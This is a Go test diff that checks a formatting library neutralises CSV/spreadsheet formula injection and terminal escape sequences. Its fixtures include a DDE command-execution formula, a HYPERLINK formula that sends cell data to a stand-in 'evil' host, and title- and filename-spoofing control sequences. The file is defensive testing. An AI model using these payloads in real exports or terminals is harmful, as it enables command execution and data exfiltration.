@@ -479,3 +479,110 @@ func TestWriteErrorsReported(t *testing.T) {
 		}
 	}
 }
+
+// TestCSVSafe checks the neutralisation of spreadsheet formulas (OWASP's CSV
+// injection guidance): text that starts a formula gets a ', numbers and
+// plain-number text do not, and JSON is never changed.
+func TestCSVSafe(t *testing.T) {
+	cols := []Column{{Name: "v"}}
+	for _, tt := range []struct {
+		v    any
+		want string // the CSV field with CSVSafe, before CSV quoting
+	}{
+		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
+		{`+HYPERLINK("http://evil/?"&A1,"x")`, `'+HYPERLINK("http://evil/?"&A1,"x")`},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"\n=1+1", "'\n=1+1"},
+		{"\x00=1", "'\x00=1"},
+		{"＝1+1", "'＝1+1"},
+		{"-", "'-"},
+		{"+-5", "'+-5"},
+		{"-5", "-5"},
+		{"+5", "+5"},
+		{"-1.5e3", "-1.5e3"},
+		{"a=b", "a=b"},
+		{" =1", " =1"},
+		{int64(-5), "-5"},
+		{-1.5, "-1.5"},
+		{bigInt("-170141183460469231731687303715884105728"), "-170141183460469231731687303715884105728"},
+		{dec("-1250", 3), "-1.25"},
+		{[]byte("=1+1"), "'=1+1"},
+		{[]any{"=1"}, `["=1"]`},
+		{nil, ""},
+	} {
+		for _, safe := range []bool{true, false} {
+			var out bytes.Buffer
+			if err := Write(&out, FormatCSV, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{CSVSafe: safe, NoHeader: true}); err != nil {
+				t.Fatal(err)
+			}
+			recs, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+			if err != nil {
+				t.Fatalf("%q: %v", out.String(), err)
+			}
+			want := tt.want
+			if !safe {
+				var raw bytes.Buffer
+				Write(&raw, FormatTSV, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{NoHeader: true})
+				want = strings.NewReplacer(`\t`, "\t", `\r`, "\r", `\n`, "\n", `\\`, `\`).Replace(strings.TrimSuffix(raw.String(), "\n"))
+			}
+			if got := recs[0][0]; got != want {
+				t.Errorf("csv-safe=%v %#v: %q, want %q", safe, tt.v, got, want)
+			}
+			var tsv bytes.Buffer
+			Write(&tsv, FormatTSV, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{CSVSafe: safe, NoHeader: true})
+			if got := string(appendTSVEscaped(nil, want)) + "\n"; tsv.String() != got {
+				t.Errorf("tsv csv-safe=%v %#v: %q, want %q", safe, tt.v, tsv.String(), got)
+			}
+		}
+		var js, jsSafe bytes.Buffer
+		Write(&js, FormatJSON, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{})
+		Write(&jsSafe, FormatJSON, &Result{Columns: cols, Rows: [][]any{{tt.v}}}, Options{CSVSafe: true, Terminal: true})
+		if js.String() != jsSafe.String() {
+			t.Errorf("JSON changed by CSVSafe: %s vs %s", js.String(), jsSafe.String())
+		}
+	}
+	// The header is text too.
+	var out bytes.Buffer
+	Write(&out, FormatCSV, &Result{Columns: []Column{{Name: "=h"}, {Name: "n"}}}, Options{CSVSafe: true})
+	if out.String() != "'=h,n\n" {
+		t.Errorf("header: %q", out.String())
+	}
+}
+
+// TestTerminalEscapes checks that CSV and TSV on a terminal show control
+// characters instead of sending them, and are exact otherwise.
+func TestTerminalEscapes(t *testing.T) {
+	hostile := "\x1b]0;owned\x07\x1b[2J\u009b31m\u202eexe.txt\r\nfake,row"
+	res := &Result{Columns: []Column{{Name: "v\x1b[1m"}}, Rows: [][]any{{hostile}}}
+	for _, format := range []Format{FormatCSV, FormatTSV, FormatTable, FormatJSON, FormatNDJSON} {
+		var out bytes.Buffer
+		if err := Write(&out, format, res, Options{Terminal: true}); err != nil {
+			t.Fatal(err)
+		}
+		s := strings.TrimSuffix(out.String(), "\n")
+		for _, r := range s {
+			if r != '\n' && (r < 0x20 || r == 0x7f || isDisplayControl(r)) {
+				t.Errorf("%s on a terminal sends %U: %q", format, r, out.String())
+			}
+		}
+		if strings.Count(s, "\n") != strings.Count(map[Format]string{FormatCSV: "h\nv", FormatTSV: "h\nv", FormatTable: "h\nv", FormatJSON: "[\n{}\n]", FormatNDJSON: "{}"}[format], "\n") {
+			t.Errorf("%s on a terminal: the value added lines: %q", format, out.String())
+		}
+	}
+	// Off a terminal, CSV is exact (encoding/csv reads a quoted CRLF as LF).
+	var out bytes.Buffer
+	Write(&out, FormatCSV, res, Options{})
+	recs, err := csv.NewReader(&out).ReadAll()
+	if err != nil || recs[1][0] != strings.ReplaceAll(hostile, "\r\n", "\n") || recs[0][0] != "v\x1b[1m" {
+		t.Errorf("CSV off a terminal: %q, %v", recs, err)
+	}
+	var js bytes.Buffer
+	Write(&js, FormatJSON, res, Options{})
+	var back []map[string]string
+	if err := json.Unmarshal(js.Bytes(), &back); err != nil || back[0]["v\x1b[1m"] != hostile {
+		t.Errorf("JSON does not read back exactly: %v, %v", back, err)
+	}
+}
